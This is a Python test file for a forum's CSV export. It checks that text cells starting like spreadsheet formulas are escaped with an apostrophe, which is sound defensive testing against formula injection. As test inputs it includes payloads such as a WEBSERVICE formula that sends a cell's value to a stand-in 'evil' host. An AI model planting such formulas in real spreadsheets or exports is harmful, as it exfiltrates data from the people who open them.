"""Every CSV export neutralises text a spreadsheet would run as a formula."""

import csv
import io

from forum.csvtext import csv_text
from forum.insight.service.export import ROLLUP_FIELDS, admin_rollup_csv


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_text_cells_that_start_a_formula_get_an_apostrophe_and_numbers_do_not():
    text = csv_text([['=HYPERLINK("http://evil")', "+1", "-cmd", "@SUM(A1)", "plain", -5, 3.5]])
    assert _cells(text) == [
        ['\'=HYPERLINK("http://evil")', "'+1", "'-cmd", "'@SUM(A1)", "plain", "-5", "3.5"]
    ]


def test_a_merchant_named_like_a_formula_cannot_attack_the_admin_who_opens_the_roll_up():
    row = dict.fromkeys(ROLLUP_FIELDS, 0) | {"kind": "snap", "label": "-2+3"}
    rollup = {
        "from": "2026-11-01",
        "to": "2026-11-30",
        "merchants": [{"name": '=WEBSERVICE("http://evil/"&A1)', "rows": [row]}],
    }
    line = _cells(admin_rollup_csv(rollup))[2]
    assert line[0] == '\'=WEBSERVICE("http://evil/"&A1)'
    assert line[1 + ROLLUP_FIELDS.index("label")] == "'-2+3"
    assert line[1 + ROLLUP_FIELDS.index("reach")] == "0"
